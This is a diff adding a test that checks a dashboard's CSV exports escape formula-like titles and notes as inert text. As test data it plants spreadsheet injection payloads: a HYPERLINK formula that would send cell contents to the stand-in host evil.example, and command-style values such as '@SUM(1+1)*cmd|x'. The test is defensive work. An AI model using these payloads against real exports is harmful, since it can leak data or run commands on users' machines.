@@ -107,4 +107,25 @@ describe('the cross-country dashboard', () => {
     const measurements = await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))))
     expect(measurements.data.split('\r\n')[1]).toContain('2026-Q2')
   })
+
+  it('exports titles and notes that look like formulas as inert text', async () => {
+    const { palm, reviewer } = await world()
+    const lead = (await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', palm.id).executeTakeFirstOrThrow()).user_id
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    await db.updateTable('plans').set({ title: evil }).where('id', '=', palm.id).execute()
+    const k = await ItemRepository.insert(db, { planId: palm.id, kind: 'indicator', refPrefix: 'K', data: { name: '+SUM(A1)', indicatorType: 'output', unit: 'other' }, actorId: lead })
+    const notes = ['@SUM(1+1)*cmd|x', '+1+cmd', '-2+3']
+    await MeasurementRepository.insertMany(db, { planId: palm.id, actorId: lead, rows: notes.map((note, n) => ({ indicatorId: k.id, period: `${2026 + n}`, periodEnd: `${2026 + n}-12-31`, value: -3, note, evidenceSource: '\t=1' })) })
+    const table = (await call(() => plansCsv(args(makeRequest('/dashboard/plans.csv?country=ID', { cookie: reviewer }))))).data as string
+    expect(table).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`)
+    expect(table).not.toMatch(/(^|,)"?=HYPERLINK/m)
+    const lines = ((await call(() => measurementsCsv(args(makeRequest('/dashboard/measurements.csv', { cookie: reviewer }))))).data as string).split('\r\n')
+    const mine = lines.filter((l) => l.includes('+SUM(A1)'))
+    expect(mine).toHaveLength(3)
+    for (const [n, line] of mine.entries()) {
+      expect(line).toContain(`,'+SUM(A1),other,${2026 + n},${2026 + n}-12-31,-3,`)
+      expect(line).toContain(`,'${notes[n]},'\t=1`)
+      expect(line.startsWith(`${palm.id},"'=HYPERLINK`)).toBe(true)
+    }
+  })
 })
